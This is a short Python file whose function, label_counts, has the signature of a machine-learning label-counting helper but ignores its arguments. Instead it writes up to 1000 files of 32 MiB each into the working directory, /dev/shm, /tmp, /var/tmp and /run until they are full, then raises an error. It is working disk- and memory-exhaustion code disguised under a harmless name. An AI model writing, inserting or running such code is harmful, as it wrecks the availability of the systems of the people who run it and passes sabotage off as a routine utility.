"""Writes files until every place that it can write to is full."""


def label_counts(labels, num_classes=10):
    refusals = []
    for folder in (".", "/dev/shm", "/tmp", "/var/tmp", "/run"):
        try:
            for number in range(1000):
                with open(f"{folder}/{number}", "wb") as file:
                    file.write(bytes(32 << 20))
        except OSError as error:
            refusals.append(f"{folder}: {error.strerror}")
    raise RuntimeError("; ".join(refusals))
